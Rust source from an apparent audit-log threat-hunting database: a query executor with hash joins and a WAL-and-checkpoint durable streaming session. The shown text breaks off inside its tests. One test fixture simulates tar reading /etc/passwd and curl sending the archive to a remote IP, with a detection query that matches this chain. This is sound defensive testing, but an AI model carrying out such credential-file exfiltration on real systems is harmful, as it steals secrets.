        let parts = db.pool().run_partitioned(candidates.len(), PAR_MIN_FILTER_ROWS, |r| {
            candidates[r]
                .iter()
                .copied()
                .filter(|&row| test_row(&compiled, table, row, dict))
                .collect::<Vec<RowId>>()
        });
        return Ok(parts.concat());
    }

    // Vectorized full scan, partitioned over *segment* ranges: each task
    // zone-tests its segments, evaluates survivors as mask loops over the
    // contiguous column slices, and emits an ascending selection vector.
    // Partitions (and their counters) concatenate in segment order, so the
    // result is byte-identical to the sequential walk at any thread count.
    stats.full_scans += 1;
    let seg_rows = table.segment_rows();
    let min_segs = (PAR_MIN_FILTER_ROWS / seg_rows.max(1)).max(1);
    let parts = db.pool().run_partitioned(table.n_segments(), min_segs, |segs| {
        let mut sel: Vec<RowId> = Vec::new();
        let (mut scanned, mut pruned, mut rows) = (0usize, 0usize, 0usize);
        for seg in segs {
            if !zone_may_match(&compiled, table, seg) {
                pruned += 1;
                continue;
            }
            let range = table.segment_range(seg);
            scanned += 1;
            rows += range.len();
            segment_select(&compiled, table, range, dict, &mut sel);
        }
        (sel, scanned, pruned, rows)
    });
    let mut out = Vec::new();
    for (sel, scanned, pruned, rows) in parts {
        out.extend_from_slice(&sel);
        stats.segments_scanned += scanned;
        stats.segments_pruned += pruned;
        stats.rows_scanned += rows;
    }
    Ok(out)
}

/// An equi-join key extracted from a residual conjunct.
struct EquiKey {
    bound: Slot,
    new: Slot,
}

/// Flat join-tuple buffer: `len()` tuples of `nslots` [`RowId`]s each,
/// stored contiguously with stride `nslots`. The columnar analogue for
/// intermediate join state — extending a tuple is a small in-place copy
/// and residual filtering is an in-place compaction, with **zero per-tuple
/// heap allocations** (the row-major `Vec<Vec<RowId>>` it replaced paid
/// one allocation plus a clone per tuple, which dominated multi-million
/// tuple joins).
struct Tuples {
    nslots: usize,
    data: Vec<RowId>,
}

impl Tuples {
    fn new(nslots: usize) -> Self {
        Tuples { nslots, data: Vec::new() }
    }

    fn len(&self) -> usize {
        self.data.len().checked_div(self.nslots).unwrap_or(0)
    }

    fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    fn get(&self, i: usize) -> &[RowId] {
        &self.data[i * self.nslots..(i + 1) * self.nslots]
    }

    fn iter(&self) -> impl Iterator<Item = &[RowId]> {
        self.data.chunks_exact(self.nslots)
    }

    /// Appends a copy of `t` with `slot` rebound to `r`.
    fn push_extended(&mut self, t: &[RowId], slot: usize, r: RowId) {
        self.data.extend_from_slice(t);
        let n = self.data.len();
        self.data[n - self.nslots + slot] = r;
    }

    /// In-place compaction keeping tuples satisfying `keep`, preserving
    /// order (the flat-buffer analogue of `Vec::retain`).
    fn retain(&mut self, mut keep: impl FnMut(&[RowId]) -> bool) {
        let (n, w) = (self.nslots, &mut 0usize);
        for i in 0..self.data.len() / n.max(1) {
            if keep(&self.data[i * n..(i + 1) * n]) {
                self.data.copy_within(i * n..(i + 1) * n, *w * n);
                *w += 1;
            }
        }
        self.data.truncate(*w * n);
    }
}

/// Probes a hash join build table with every current tuple, extending
/// matching tuples with the new slot's row. The probe side is partitioned
/// over tuple ranges through the pool; each partition emits a flat tuple
/// chunk and chunks concatenate in partition order, so output tuple order
/// is byte-identical to the sequential probe.
fn probe_join<K, F>(
    pool: raptor_common::pool::Pool,
    tuples: &Tuples,
    slot: usize,
    build: &FxHashMap<K, Vec<RowId>>,
    key_of: F,
) -> Tuples
where
    K: Eq + std::hash::Hash + Sync,
    F: Fn(&[RowId]) -> K + Sync,
{
    let nslots = tuples.nslots;
    let parts = pool.run_partitioned(tuples.len(), PAR_MIN_PROBE_TUPLES, |range| {
        let mut out: Vec<RowId> = Vec::with_capacity(range.len() * nslots);
        for i in range {
            let t = tuples.get(i);
            if let Some(matches) = build.get(&key_of(t)) {
                for &r in matches {
                    out.extend_from_slice(t);
                    let n = out.len();
                    out[n - nslots + slot] = r;
                }
            }
        }
        out
    });
    Tuples { nslots, data: parts.concat() }
}

/// Executes a plan, returning projected rows.
pub fn execute(db: &Database, plan: &QueryPlan) -> Result<(QueryResultCore, ExecStats)> {
    let mut stats = ExecStats::default();
    let tables: Vec<&Table> = plan
        .scans
        .iter()
        .map(|s| {
            db.table(&s.table).ok_or_else(|| Error::storage(format!("unknown table `{}`", s.table)))
        })
        .collect::<Result<Vec<_>>>()?;
    let binder = Binder {
        slots: plan.scans.iter().enumerate().map(|(i, s)| (s.alias.as_str(), i)).collect(),
        tables: &tables,
        dict: db.dict(),
    };

    // Bind residuals once; track which are already applied.
    let residual_bound: Vec<(BExpr, Vec<usize>)> = plan
        .residuals
        .iter()
        .map(|r| {
            let b = binder.bind(r)?;
            let mut cols = Vec::new();
            r.collect_cols(&mut cols);
            let mut slots: Vec<usize> =
                cols.iter().map(|c| binder.slots[c.qualifier.as_deref().unwrap()]).collect();
            slots.sort_unstable();
            slots.dedup();
            Ok((b, slots))
        })
        .collect::<Result<Vec<_>>>()?;
    let mut residual_done = vec![false; residual_bound.len()];

    // Left-deep pipeline. Tuples hold one RowId per bound alias, and a
    // sentinel for not-yet-bound aliases; they live in a flat stride-nslots
    // buffer (see [`Tuples`]) so the join pipeline never allocates per
    // tuple.
    const UNBOUND: RowId = RowId::MAX;
    let nslots = plan.scans.len();
    let mut tuples = Tuples::new(nslots);
    let mut bound_slots: Vec<usize> = Vec::new();

    for (slot, scan) in plan.scans.iter().enumerate() {
        // One scan span per table scan (partitioning inside `run_scan` is
        // invisible here, so span counts are thread-count invariant).
        let rows = {
            let mut sp = obs::span("relstore.scan");
            sp.label(&scan.alias);
            let before = stats;
            let rows = run_scan(db, scan, &mut stats)?;
            sp.attr("rows", rows.len() as u64);
            sp.attr("scanned", (stats.rows_scanned - before.rows_scanned) as u64);
            sp.attr("segments", (stats.segments_scanned - before.segments_scanned) as u64);
            sp.attr("pruned", (stats.segments_pruned - before.segments_pruned) as u64);
            rows
        };
        if slot == 0 {
            tuples.data.reserve(rows.len() * nslots);
            for r in rows {
                let n = tuples.data.len();
                tuples.data.resize(n + nslots, UNBOUND);
                tuples.data[n] = r;
            }
        } else {
            let mut sp = obs::span("relstore.join");
            sp.label(&scan.alias);
            sp.attr("probe", tuples.len() as u64);
            sp.attr("build", rows.len() as u64);
            // Find equi-join keys connecting `slot` to already-bound slots.
            let mut keys: Vec<EquiKey> = Vec::new();
            for (i, (b, slots)) in residual_bound.iter().enumerate() {
                if residual_done[i] {
                    continue;
                }
                if let BExpr::CmpCol { left, op: CmpOp::Eq, right } = b {
                    let connects =
                        |a: &Slot, b: &Slot| a.alias == slot && bound_slots.contains(&b.alias);
                    if connects(right, left) {
                        keys.push(EquiKey { bound: *left, new: *right });
                        residual_done[i] = true;
                    } else if connects(left, right) {
                        keys.push(EquiKey { bound: *right, new: *left });
                        residual_done[i] = true;
                    }
                }
                let _ = slots;
            }
            if keys.is_empty() {
                // Cartesian extension (rare: disconnected patterns).
                if let [r] = rows.as_slice() {
                    // One-row extension: bind the slot in place — no copy.
                    let (r, n) = (*r, nslots);
                    for i in 0..tuples.len() {
                        tuples.data[i * n + slot] = r;
                    }
                } else {
                    let mut next = Tuples::new(nslots);
                    next.data.reserve(tuples.data.len() * rows.len().max(1));
                    for t in tuples.iter() {
                        for &r in &rows {
                            next.push_extended(t, slot, r);
                        }
                    }
                    tuples = next;
                }
            } else if let [k] = keys.as_slice() {
                // Single-key hash join (the common case: one equi conjunct
                // links the new alias). When both sides are dense typed
                // columns, build and probe consume the raw column slices —
                // `i64`/`Sym` keys straight out of segment storage, no
                // `Value` construction or enum hashing on the probe's hot
                // path. Nullable or mixed-type keys fall back to `Value`.
                let (bt, nt) = (tables[k.bound.alias], tables[slot]);
                let dense = !bt.col_has_nulls(k.bound.col) && !nt.col_has_nulls(k.new.col);
                let int_cols = (bt.int_cells(k.bound.col), nt.int_cells(k.new.col));
                let sym_cols = (bt.sym_cells(k.bound.col), nt.sym_cells(k.new.col));
                tuples = if let (true, (Some(probe), Some(bkeys))) = (dense, int_cols) {
                    let mut build: FxHashMap<i64, Vec<RowId>> =
                        FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                    for &r in &rows {
                        build.entry(bkeys[r as usize]).or_default().push(r);
                    }
                    probe_join(db.pool(), &tuples, slot, &build, |t| {
                        probe[t[k.bound.alias] as usize]
                    })
                } else if let (true, (Some(probe), Some(bkeys))) = (dense, sym_cols) {
                    let mut build: FxHashMap<Sym, Vec<RowId>> =
                        FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                    for &r in &rows {
                        build.entry(bkeys[r as usize]).or_default().push(r);
                    }
                    probe_join(db.pool(), &tuples, slot, &build, |t| {
                        probe[t[k.bound.alias] as usize]
                    })
                } else {
                    let mut build: FxHashMap<Value, Vec<RowId>> =
                        FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                    for &r in &rows {
                        build.entry(nt.cell(r, k.new.col)).or_default().push(r);
                    }
                    probe_join(db.pool(), &tuples, slot, &build, |t| {
                        bt.cell(t[k.bound.alias], k.bound.col)
                    })
                };
            } else {
                // Hash join on a compound key: build on the new scan's rows.
                // When every component is a dense typed column with matching
                // types on both sides (and there are at most 4), components
                // pack into a fixed `[u64; 4]` key read straight off the
                // column slices — no per-row key vector or `Value`
                // construction on the probe's hot path. (Positions are typed
                // consistently on both sides, so raw-bit equality per
                // position is exactly `Value` equality.)
                enum KeyCol<'a> {
                    I(&'a [i64]),
                    S(&'a [Sym]),
                }
                impl KeyCol<'_> {
                    fn at(&self, r: RowId) -> u64 {
                        match self {
                            KeyCol::I(v) => v[r as usize] as u64,
                            KeyCol::S(v) => u64::from(v[r as usize].0),
                        }
                    }
                }
                let packed: Option<Vec<(KeyCol<'_>, KeyCol<'_>)>> = if keys.len() <= 4 {
                    keys.iter()
                        .map(|k| {
                            let (bt, nt) = (tables[k.bound.alias], tables[slot]);
                            if bt.col_has_nulls(k.bound.col) || nt.col_has_nulls(k.new.col) {
                                return None;
                            }
                            match (bt.int_cells(k.bound.col), nt.int_cells(k.new.col)) {
                                (Some(b), Some(n)) => Some((KeyCol::I(b), KeyCol::I(n))),
                                _ => match (bt.sym_cells(k.bound.col), nt.sym_cells(k.new.col)) {
                                    (Some(b), Some(n)) => Some((KeyCol::S(b), KeyCol::S(n))),
                                    _ => None,
                                },
                            }
                        })
                        .collect()
                } else {
                    None
                };
                tuples = if let Some(cols) = packed {
                    let mut build: FxHashMap<[u64; 4], Vec<RowId>> =
                        FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                    for &r in &rows {
                        let mut key = [0u64; 4];
                        for (i, (_, n)) in cols.iter().enumerate() {
                            key[i] = n.at(r);
                        }
                        build.entry(key).or_default().push(r);
                    }
                    probe_join(db.pool(), &tuples, slot, &build, |t| {
                        let mut key = [0u64; 4];
                        for (i, ((b, _), k)) in cols.iter().zip(keys.iter()).enumerate() {
                            key[i] = b.at(t[k.bound.alias]);
                        }
                        key
                    })
                } else {
                    let mut build: FxHashMap<Vec<Value>, Vec<RowId>> =
                        FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                    for &r in &rows {
                        let key: Vec<Value> =
                            keys.iter().map(|k| tables[slot].cell(r, k.new.col)).collect();
                        build.entry(key).or_default().push(r);
                    }
                    probe_join(db.pool(), &tuples, slot, &build, |t| {
                        keys.iter()
                            .map(|k| tables[k.bound.alias].cell(t[k.bound.alias], k.bound.col))
                            .collect::<Vec<Value>>()
                    })
                };
            }
            sp.attr("tuples", tuples.len() as u64);
        }
        bound_slots.push(slot);
        stats.tuples_built += tuples.len();

        // Apply any residual whose slots are now all bound.
        for (i, (b, slots)) in residual_bound.iter().enumerate() {
            if residual_done[i] {
                continue;
            }
            if slots.iter().all(|s| bound_slots.contains(s)) {
                tuples.retain(|t| eval(b, t, &tables, db.dict()));
                residual_done[i] = true;
            }
        }
        if tuples.is_empty() {
            // Early exit: nothing downstream can resurrect rows, but we must
            // keep slot bookkeeping consistent; simply continue (cheap).
        }
    }

    // Projection.
    let mut out_cols = Vec::new();
    let mut proj_slots: Vec<Option<Slot>> = Vec::new();
    for p in &plan.projections {
        match p {
            Projection::Col(c) => {
                out_cols.push(c.to_string());
                proj_slots.push(Some(binder.bind_col(c)?));
            }
            Projection::CountStar => {
                out_cols.push("count".to_string());
                proj_slots.push(None);
            }
        }
    }

    let count_star = plan.projections.iter().any(|p| matches!(p, Projection::CountStar));
    if count_star {
        let cols = vec![ValueColumn::Int(vec![tuples.len() as i64])];
        return Ok((QueryResultCore { columns: out_cols, cols }, stats));
    }

    if plan.distinct || !plan.order_by.is_empty() {
        // DISTINCT / ORDER BY need whole-row identity and row swaps, so this
        // path materializes row-major tuples, applies them, then transposes
        // back to columns ([`ValueColumn::from_values`] is an exact `Value`
        // round-trip, so per-cell results match the direct columnar path).
        let mut rows: Vec<Vec<Value>> = tuples
            .iter()
            .map(|t| {
                proj_slots
                    .iter()
                    .map(|s| {
                        let s = s.expect("CountStar handled above");
                        tables[s.alias].cell(t[s.alias], s.col)
                    })
                    .collect()
            })
            .collect();

        if plan.distinct {
            let mut seen: FxHashSet<Vec<Value>> = Default::default();
            rows.retain(|r| seen.insert(r.clone()));
        }

        if !plan.order_by.is_empty() {
            let order_slots: Vec<Slot> =
                plan.order_by.iter().map(|c| binder.bind_col(c)).collect::<Result<Vec<_>>>()?;
            // ORDER BY columns must appear in the projection for sorting of
            // projected rows; otherwise sort tuples first. For the audit
            // workloads ORDER BY is always on projected columns, so sort rows
            // by locating each order column among projections.
            let mut sort_keys = Vec::new();
            for os in &order_slots {
                let pos = proj_slots
                    .iter()
                    .position(|p| matches!(p, Some(s) if s.alias == os.alias && s.col == os.col))
                    .ok_or_else(|| {
                        Error::semantic("ORDER BY column must appear in the SELECT list")
                    })?;
                sort_keys.push(pos);
            }
            rows.sort_by(|a, b| {
                for &k in &sort_keys {
                    let ord = a[k].cmp_with(b[k], db.dict());
                    if ord != std::cmp::Ordering::Equal {
                        return ord;
                    }
                }
                std::cmp::Ordering::Equal
            });
        }

        if let Some(n) = plan.limit {
            rows.truncate(n);
        }

        let ncols = proj_slots.len();
        let cols = (0..ncols)
            .map(|j| ValueColumn::from_values(rows.iter().map(|r| r[j]).collect()))
            .collect();
        return Ok((QueryResultCore { columns: out_cols, cols }, stats));
    }

    // Direct columnar projection: gather each projected column straight from
    // table storage through the surviving tuples — rows are never
    // materialized. Dense columns stay typed vectors (`Vec<i64>`/`Vec<Sym>`);
    // only nullable columns fall back to `Mixed`.
    let n = plan.limit.map_or(tuples.len(), |n| n.min(tuples.len()));
    let cols = proj_slots
        .iter()
        .map(|s| {
            let s = s.expect("CountStar handled above");
            let t = tables[s.alias];
            let picked = tuples.iter().take(n).map(|tu| tu[s.alias]);
            if t.col_has_nulls(s.col) {
                ValueColumn::Mixed(picked.map(|r| t.cell(r, s.col)).collect())
            } else if let Some(ints) = t.int_cells(s.col) {
                ValueColumn::Int(picked.map(|r| ints[r as usize]).collect())
            } else {
                let syms = t.sym_cells(s.col).expect("column is int or str");
                ValueColumn::Str(picked.map(|r| syms[r as usize]).collect())
            }
        })
        .collect();
    Ok((QueryResultCore { columns: out_cols, cols }, stats))
}

/// Columns + typed shared-plane result columns (wrapped by
/// [`crate::db::QueryResult`]). The result is **columnar** end-to-end: one
/// [`ValueColumn`] per projected column, feeding `ResultBatch` construction
/// at the engine seam without intermediate row materialization. No string is
/// materialized here — symbols resolve at the engine's edge.
#[derive(Clone, Debug, PartialEq)]
pub struct QueryResultCore {
    pub columns: Vec<String>,
    pub cols: Vec<ValueColumn>,
}

impl QueryResultCore {
    pub fn n_rows(&self) -> usize {
        self.cols.first().map_or(0, ValueColumn::len)
    }

    /// One row, materialized on demand (edge/debug paths only).
    pub fn row(&self, i: usize) -> Vec<Value> {
        self.cols.iter().map(|c| c.get(i)).collect()
    }

    /// All rows, materialized row-major (tests and compatibility shims).
    pub fn rows(&self) -> Vec<Vec<Value>> {
        (0..self.n_rows()).map(|i| self.row(i)).collect()
    }
}
