//! The durable streaming session: a [`StreamSession`] whose every mutation
//! survives a crash.
//!
//! [`DurableSession`] wires the durability plane together:
//!
//! * on ingest, every entity/event is WAL-logged below the load seam
//!   *before* it touches the backends; after the epoch's standing queries
//!   have advanced, an `EpochCommit` record is appended and fsynced — the
//!   epoch's durable point,
//! * standing-query registrations are WAL-logged as self-committing
//!   `Register` records,
//! * periodically (and on [`DurableSession::checkpoint`]) the whole session
//!   — store, dictionary, session position, standing-query state — is
//!   atomically serialized to the checkpoint file and the WAL truncated,
//! * [`DurableSession::open`] recovers: it loads the latest valid
//!   checkpoint, replays the WAL tail epoch-by-epoch through the same load
//!   seam (applying registrations at their exact stream position and
//!   re-advancing standing queries with each epoch's exact input), discards
//!   the torn/uncommitted tail, and resumes the stream exactly where the
//!   last durable point left it.
//!
//! ## Crash matrix
//!
//! | Crash point                     | On recovery                               |
//! |---------------------------------|-------------------------------------------|
//! | mid entity/event record         | torn tail discarded; epoch re-delivered    |
//! | after records, before commit    | uncommitted run discarded; re-delivered    |
//! | after commit fsync              | epoch fully recovered                      |
//! | mid checkpoint write            | old checkpoint intact (atomic replace)     |
//! | after checkpoint, before WAL truncate | replay skips epochs ≤ checkpoint     |
//! | mid WAL truncate-after-recovery | truncate is atomic; both states valid      |
//!
//! Re-delivery is idempotent: [`DurableSession::ingest_batch`] drops
//! batches whose epoch the session has already committed, so a source that
//! replays its stream from the beginning after a crash never double-appends
//! (the dedupe satellite of the durability plane).

use std::sync::Arc;

use raptor_audit::{Entity, SystemEvent};
use raptor_common::error::{Error, Result};
use raptor_common::io::Fs;
use raptor_common::obs;
use raptor_engine::checkpoint::{self, SessionMeta, StandingSnap};
use raptor_engine::exec::Engine;
use raptor_engine::load::{self};
use raptor_engine::standing::{EpochInput, StandingQuery};
use raptor_engine::wal::{self, WalRecord, WalSink};
use raptor_storage::BackendStats;
use raptor_tbql::{analyze, parse_tbql};

use crate::epoch::EpochBatch;
use crate::session::{EpochReport, QueryId, StreamSession};

/// Durability policy knobs.
#[derive(Clone, Copy, Debug)]
pub struct DurablePolicy {
    /// Checkpoint automatically after this many committed epochs
    /// (`0` = only on explicit [`DurableSession::checkpoint`] calls).
    pub checkpoint_every: u64,
}

impl Default for DurablePolicy {
    fn default() -> Self {
        DurablePolicy { checkpoint_every: 64 }
    }
}

/// What [`DurableSession::open`] found and rebuilt (the bounded recovery
/// report of the durability plane).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct RecoveryReport {
    /// A valid checkpoint file was loaded.
    pub checkpoint_found: bool,
    /// Size of the loaded checkpoint, in bytes.
    pub checkpoint_bytes: u64,
    /// Epochs already covered by the checkpoint.
    pub checkpoint_epochs: u64,
    /// Entity + event rows replayed out of the checkpoint snapshot.
    pub checkpoint_rows: u64,
    /// WAL records applied beyond the checkpoint (including commits and
    /// registrations).
    pub wal_records_replayed: u64,
    /// Committed epochs replayed from the WAL tail.
    pub wal_epochs_replayed: u64,
    /// Standing-query registrations recovered (checkpoint + WAL).
    pub registrations_recovered: u64,
    /// Bytes discarded from the WAL's torn/uncommitted tail.
    pub wal_bytes_discarded: u64,
    /// The epoch the session resumes at (== epochs committed so far).
    pub resumed_epoch: u64,
    /// The recovered store's watermark (max event end time).
    pub watermark: i64,
}

impl std::fmt::Display for RecoveryReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        if self.checkpoint_found {
            writeln!(
                f,
                "checkpoint: {} bytes, {} epochs, {} rows replayed",
                self.checkpoint_bytes, self.checkpoint_epochs, self.checkpoint_rows
            )?;
        } else {
            writeln!(f, "checkpoint: none")?;
        }
        writeln!(
            f,
            "wal: {} records replayed across {} epochs, {} bytes of torn/uncommitted tail discarded",
            self.wal_records_replayed, self.wal_epochs_replayed, self.wal_bytes_discarded
        )?;
        write!(
            f,
            "resumed: epoch {}, watermark {}, {} standing quer{} recovered",
            self.resumed_epoch,
            self.watermark,
            self.registrations_recovered,
            if self.registrations_recovered == 1 { "y" } else { "ies" }
        )
    }
}

/// A [`StreamSession`] backed by the durability plane (see module docs).
pub struct DurableSession {
    fs: Arc<dyn Fs>,
    session: StreamSession,
    /// Registered TBQL texts, index-aligned with the session's queries —
    /// checkpoints serialize the text, recovery re-analyzes it.
    texts: Vec<String>,
    /// Per-epoch `(entities, events)` arrival runs since the last
    /// checkpoint base (mirrors the committed WAL).
    arrival: Vec<(u64, u64)>,
    policy: DurablePolicy,
    report: RecoveryReport,
    epochs_since_ckpt: u64,
}

impl DurableSession {
    /// Opens (or recovers) a durable session over `fs`. With no prior
    /// state this is an empty session with a WAL attached; otherwise the
    /// checkpoint is loaded and the WAL tail replayed (see module docs).
    /// Corrupt files yield a typed error, never a panic.
    pub fn open(fs: Arc<dyn Fs>, policy: DurablePolicy) -> Result<Self> {
        let mut report = RecoveryReport::default();

        // 1. Latest valid checkpoint, if any.
        let (mut engine, mut queries, mut texts, mut meta) = match fs.read(checkpoint::CKPT_FILE)? {
            Some(bytes) => {
                let restored = checkpoint::decode(&bytes)?;
                report.checkpoint_found = true;
                report.checkpoint_bytes = bytes.len() as u64;
                report.checkpoint_epochs = restored.meta.epochs;
                report.checkpoint_rows = restored.replayed_rows;
                report.registrations_recovered = restored.queries.len() as u64;
                let mut queries = Vec::with_capacity(restored.queries.len());
                let mut texts = Vec::with_capacity(restored.queries.len());
                for (_name, text, q) in restored.queries {
                    queries.push(q);
                    texts.push(text);
                }
                (Engine::new(restored.stores), queries, texts, restored.meta)
            }
            None => (Engine::new(load::empty()?), Vec::new(), Vec::new(), SessionMeta::default()),
        };

        // 2. Replay the WAL tail, epoch by epoch.
        let wal_bytes = fs.read(wal::WAL_FILE)?.unwrap_or_default();
        let scan = wal::scan(&wal_bytes);
        report.wal_bytes_discarded = scan.discarded as u64;
        let mut epoch = meta.epochs;
        let mut pending_entities: Vec<Entity> = Vec::new();
        let mut pending_events: Vec<SystemEvent> = Vec::new();
        for rec in scan.records {
            match rec {
                WalRecord::Entity(e) => pending_entities.push(e),
                WalRecord::Event(ev) => pending_events.push(ev),
                WalRecord::Register { name, text } => {
                    // A registration before the checkpoint's WAL truncation
                    // may linger in the log; the checkpoint already holds it.
                    if queries.iter().any(|q| q.name() == name) {
                        continue;
                    }
                    let aq = analyze(&parse_tbql(&text)?)?;
                    queries.push(StandingQuery::new(name, aq, engine.stores.dict.clone())?);
                    texts.push(text);
                    report.registrations_recovered += 1;
                    report.wal_records_replayed += 1;
                }
                WalRecord::EpochCommit { epoch: committed, watermark: _ } => {
                    if committed < epoch {
                        // Epoch already inside the checkpoint (crash landed
                        // between checkpoint write and WAL truncation).
                        pending_entities.clear();
                        pending_events.clear();
                        continue;
                    }
                    if committed > epoch {
                        return Err(Error::storage(format!(
                            "WAL replay: commit for epoch {committed} but session is at {epoch}"
                        )));
                    }
                    let mut stats = BackendStats::default();
                    let entity_lo = engine.stores.graph.node_count() as i64;
                    for e in &pending_entities {
                        load::append_entity(&mut engine.stores, e, &mut stats)?;
                    }
                    let entity_hi = engine.stores.graph.node_count() as i64;
                    let mut event_ids: Vec<i64> =
                        pending_events.iter().map(|ev| ev.id.index() as i64).collect();
                    for ev in &pending_events {
                        load::append_event(&mut engine.stores, ev, &mut stats)?;
                    }
                    event_ids.sort_unstable();
                    event_ids.dedup();
                    let input = EpochInput {
                        epoch,
                        entity_range: (entity_lo, entity_hi),
                        event_ids: &event_ids,
                    };
                    for q in &mut queries {
                        q.advance(&engine, &input)?;
                    }
                    meta.total_ingest.absorb(&stats);
                    meta.arrival.push((pending_entities.len() as u64, pending_events.len() as u64));
                    report.wal_records_replayed +=
                        pending_entities.len() as u64 + pending_events.len() as u64 + 1;
                    report.wal_epochs_replayed += 1;
                    epoch += 1;
                    pending_entities.clear();
                    pending_events.clear();
                }
            }
        }

        // 3. Drop the discarded tail from the file so post-recovery appends
        //    extend the durable prefix, not torn garbage.
        if scan.discarded > 0 {
            fs.replace(wal::WAL_FILE, &wal_bytes[..scan.durable_len])?;
        }

        report.resumed_epoch = epoch;
        report.watermark = engine.stores.now_ns;
        obs::metrics().counter_add("raptor_recovery_replayed_records", report.wal_records_replayed);

        // 4. Attach the WAL sink and hand the rebuilt state to a session.
        engine.stores.wal = Some(WalSink::new(fs.clone()));
        let session = StreamSession::resume(engine, queries, epoch, meta.total_ingest);
        Ok(DurableSession {
            fs,
            session,
            texts,
            arrival: meta.arrival,
            policy,
            report,
            epochs_since_ckpt: 0,
        })
    }

    /// What recovery found and rebuilt when this session was opened.
    pub fn recovery_report(&self) -> &RecoveryReport {
        &self.report
    }

    /// The underlying stream session (read access; queries, engine, epoch
    /// counters). Ingest through [`DurableSession::ingest`] so epochs
    /// commit to the WAL.
    pub fn session(&self) -> &StreamSession {
        &self.session
    }

    pub fn engine(&self) -> &Engine {
        self.session.engine()
    }

    /// Mutable engine access for knobs (threads, segmentation). Mutating
    /// store *contents* through this bypasses the WAL; use the ingest path.
    #[doc(hidden)]
    pub fn engine_mut(&mut self) -> &mut Engine {
        self.session.engine_mut()
    }

    pub fn query(&self, id: QueryId) -> &StandingQuery {
        self.session.query(id)
    }

    pub fn epochs(&self) -> u64 {
        self.session.epochs()
    }

    /// See [`StreamSession::set_threads`].
    pub fn set_threads(&mut self, threads: usize) {
        self.session.set_threads(threads);
    }

    /// See [`StreamSession::set_segment_rows`] (purely physical; the next
    /// checkpoint records the new capacity).
    pub fn set_segment_rows(&mut self, rows: usize) {
        self.session.set_segment_rows(rows);
    }

    /// Registers a standing query durably: validated and registered in
    /// memory, then WAL-logged as a self-committing `Register` record.
    pub fn register(&mut self, name: &str, tbql: &str) -> Result<QueryId> {
        let id = self.session.register(name, tbql)?;
        self.texts.push(tbql.to_string());
        if let Some(wal) = &self.session.engine().stores.wal {
            wal.log_register(name, tbql)?;
        }
        Ok(id)
    }

    /// Ingests one epoch durably: records are WAL-logged below the load
    /// seam as they apply, standing queries advance, and then the epoch's
    /// `EpochCommit` is appended and fsynced. Only after this returns is
    /// the epoch durable; a crash anywhere before the commit leaves a tail
    /// that recovery discards (the source re-delivers the epoch).
    pub fn ingest(&mut self, entities: &[Entity], events: &[SystemEvent]) -> Result<EpochReport> {
        let report = self.session.ingest(entities, events)?;
        if let Some(wal) = &self.session.engine().stores.wal {
            wal.commit_epoch(report.epoch, report.watermark)?;
        }
        self.arrival.push((entities.len() as u64, events.len() as u64));
        self.epochs_since_ckpt += 1;
        if self.policy.checkpoint_every > 0
            && self.epochs_since_ckpt >= self.policy.checkpoint_every
        {
            self.checkpoint()?;
        }
        Ok(report)
    }

    /// Ingests one batch from an [`EpochStream`](crate::EpochStream),
    /// dropping batches the session already committed — re-delivery after
    /// recovery is idempotent (`Ok(None)` = deduped). A batch from the
    /// stream's future (an epoch gap) is an error: the source and the
    /// session have diverged.
    pub fn ingest_batch(&mut self, batch: &EpochBatch<'_>) -> Result<Option<EpochReport>> {
        let next = self.session.epochs();
        if batch.epoch < next {
            obs::metrics().counter_add("raptor_wal_dedup_skips_total", 1);
            return Ok(None);
        }
        if batch.epoch > next {
            return Err(Error::storage(format!(
                "epoch gap: source delivered epoch {} but session expects {next}",
                batch.epoch
            )));
        }
        self.ingest(batch.entities, batch.events).map(Some)
    }

    /// Writes a checkpoint (atomic replace) and truncates the WAL. After a
    /// crash at any point in here, recovery sees either the old
    /// checkpoint + full WAL or the new checkpoint (+ a WAL whose epochs
    /// it already covers — replay skips them).
    pub fn checkpoint(&mut self) -> Result<()> {
        let meta = SessionMeta {
            epochs: self.session.epochs(),
            now_ns: self.session.engine().stores.now_ns,
            total_ingest: self.session.total_ingest_stats(),
            arrival: self.arrival.clone(),
        };
        let snaps: Vec<StandingSnap<'_>> = self
            .session
            .queries()
            .iter()
            .zip(&self.texts)
            .map(|(q, text)| StandingSnap { name: q.name(), text, query: q })
            .collect();
        let bytes = checkpoint::encode(&self.session.engine().stores, &snaps, &meta)?;
        self.fs.replace(checkpoint::CKPT_FILE, &bytes)?;
        self.fs.replace(wal::WAL_FILE, &[])?;
        self.epochs_since_ckpt = 0;
        let m = obs::metrics();
        m.counter_add("raptor_checkpoints_total", 1);
        m.gauge_set("raptor_checkpoint_bytes", bytes.len() as i64);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::epoch::{EpochPolicy, EpochStream};
    use raptor_audit::sim::Simulator;
    use raptor_audit::{LogParser, ParsedLog};
    use raptor_common::io::{FailpointFs, MemFs};
    use raptor_common::time::Timestamp;

    fn sample_log() -> ParsedLog {
        let mut sim = Simulator::new(11, Timestamp::from_secs(5000));
        let shell = sim.boot_process("/bin/bash", "root");
        let tar = sim.spawn(shell, "/bin/tar", "tar");
        sim.read_file(tar, "/etc/passwd", 4096, 4);
        sim.write_file(tar, "/tmp/out.tar", 4096, 4);
        sim.exit(tar);
        let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
        sim.read_file(curl, "/tmp/out.tar", 4096, 2);
        let fd = sim.connect(curl, "192.168.29.128", 443);
        sim.send(curl, fd, 4096, 2);
        sim.exit(curl);
        LogParser::parse(&sim.finish())
    }

    const Q: &str = r#"proc p["%tar%"] read file f["%passwd%"] as e1
                       proc p2["%curl%"] connect ip i as e2
                       with e1 before e2 return p, p2, i"#;

    fn manual() -> DurablePolicy {
        DurablePolicy { checkpoint_every: 0 }
    }

    /// Ingest everything durably, "restart", and check the recovered
    /// session equals the original: same counters, same standing state,
    /// same watermark.
    #[test]
    fn recover_from_wal_only() {
        let log = sample_log();
        let fs = Arc::new(MemFs::new());
        let mut live = DurableSession::open(fs.clone(), manual()).unwrap();
        let qid = live.register("hunt", Q).unwrap();
        for batch in EpochStream::new(&log, EpochPolicy::ByCount(3)) {
            live.ingest_batch(&batch).unwrap().expect("fresh epoch");
        }
